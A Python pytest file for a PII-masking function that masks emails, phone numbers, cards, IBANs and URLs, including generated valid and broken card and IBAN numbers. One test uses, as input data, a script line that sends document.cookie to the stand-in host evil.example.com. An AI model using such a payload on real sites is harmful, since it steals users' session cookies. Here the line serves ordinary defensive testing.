"""PII masking (cxlab.voc.pii) on a corpus of realistic personal data and near misses."""

from __future__ import annotations

import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from cxlab.voc import mask_pii, mask_pii_series

CORPUS = Path(__file__).parent / "data" / "pii_corpus.csv"


def _corpus() -> pd.DataFrame:
    return pd.read_csv(CORPUS, keep_default_na=False, dtype=str)


@pytest.mark.parametrize("row", _corpus().to_dict("records"), ids=lambda r: r["text"][:40])
def test_corpus_row_is_masked_exactly(row):
    assert mask_pii(row["text"]) == row["expected"]


def test_corpus_covers_every_kind_and_near_misses():
    c = _corpus()
    for placeholder in ["[email]", "[phone]", "[card]", "[iban]", "[url]"]:
        assert c.expected.str.contains(placeholder, regex=False).sum() >= 3, placeholder
    assert (c.text == c.expected).sum() >= 15  # near misses left alone


def test_series_form_equals_the_scalar_form_and_keeps_missing_values():
    c = _corpus()
    s = pd.Series([*c.text, None, np.nan, "", *c.text], index=range(100, 100 + 2 * len(c) + 3))
    out = mask_pii_series(s.rename("verbatim"))
    assert out.name == "verbatim" and out.index.equals(s.index)
    assert out.iloc[: len(c)].tolist() == c.expected.tolist()
    assert out.iloc[len(c) : len(c) + 2].isna().all()
    assert out.iloc[len(c) + 2] == ""
    assert out.iloc[len(c) + 3 :].tolist() == c.expected.tolist()


def test_none_nan_and_non_strings_pass_through():
    assert mask_pii(None) is None
    assert math.isnan(mask_pii(float("nan")))
    assert mask_pii(42) == 42
    assert mask_pii_series(pd.Series([], dtype=object)).empty
    assert mask_pii_series(pd.Series([None, None], dtype=object)).isna().all()


def test_url_holding_an_email_is_one_url_and_email_domain_is_not_cut():
    assert mask_pii("http://x.example.com/?to=a@b.com and c.d@shop.co.uk") == "[url] and [email]"


def test_iban_does_not_swallow_the_next_word_and_bad_checksum_stays():
    assert mask_pii("GB82 WEST 1234 5698 7654 32 ABCD") == "[iban] ABCD"
    assert mask_pii("GB83 WEST 1234 5698 7654 32") == "GB83 WEST 1234 5698 7654 32"


def test_hostile_text_is_masked_but_otherwise_kept():
    text = "<script>fetch('https://evil.example.com/?c='+document.cookie)</script> a@b.com"
    assert mask_pii(text) == "<script>fetch('[url]'+document.cookie)</script> [email]"


def test_phone_regions_can_be_narrowed():
    # a French national number is not a UK one
    assert mask_pii("06 12 34 56 78", regions=["GB"]) == "06 12 34 56 78"
    assert mask_pii("06 12 34 56 78", regions=["FR"]) == "[phone]"


def _card(rng: np.random.Generator, sep: str) -> tuple[str, str]:
    """A Luhn-valid 16-digit number and the same with its last digit changed."""
    from stdnum import luhn

    body = "4" + "".join(map(str, rng.integers(0, 10, 14)))
    good = body + luhn.calc_check_digit(body)
    bad = good[:-1] + str((int(good[-1]) + 1) % 10)
    return tuple(sep.join(n[i : i + 4] for i in range(0, 16, 4)) for n in (good, bad))


def _iban(rng: np.random.Generator, country: str, length: int) -> tuple[str, str]:
    """A valid IBAN of ``country`` (digits-only BBAN), spaced in fours, and one with bad check digits."""
    from stdnum.iso7064 import mod_97_10

    bban = "".join(map(str, rng.integers(0, 10, length - 4)))
    check = mod_97_10.calc_check_digits(bban + country)
    wrong = f"{(int(check) + 1) % 97 + 2:02d}" if check != "98" else "02"
    spaced = [
        " ".join((country + c + bban)[i : i + 4] for i in range(0, length, 4))
        for c in (check, wrong)
    ]
    return spaced[0], spaced[1]


@pytest.mark.parametrize("seed", range(1, 21))
def test_generated_cards_and_ibans_are_masked_and_their_broken_twins_are_not(seed):
    rng = np.random.default_rng(seed)
    good, bad = _card(rng, [" ", "-", ""][seed % 3])
    assert mask_pii(f"charged {good} twice") == "charged [card] twice"
    assert mask_pii(f"charged {bad} twice") == f"charged {bad} twice"
    country, length = [("DE", 22), ("FR", 27), ("NL", 18), ("AT", 20)][seed % 4]
    if country == "NL":  # NL BBANs start with four letters
        good_i, bad_i = "NL91 ABNA 0417 1643 00", "NL92 ABNA 0417 1643 00"
    else:
        good_i, bad_i = _iban(rng, country, length)
    assert mask_pii(f"refund to {good_i} please") == "refund to [iban] please"
    assert "[iban]" not in mask_pii(f"refund to {bad_i} please")
